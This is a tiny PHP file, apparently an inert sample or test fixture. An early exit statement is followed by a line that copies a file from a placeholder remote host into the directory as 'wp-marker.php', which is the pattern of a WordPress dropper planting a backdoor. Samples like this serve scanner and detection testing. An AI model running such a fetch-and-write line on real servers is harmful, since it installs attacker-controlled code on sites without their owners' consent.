<?php exit; ?>
<?php copy('http://marker.invalid/m.txt', dirname(__FILE__) . '/wp-marker.php');
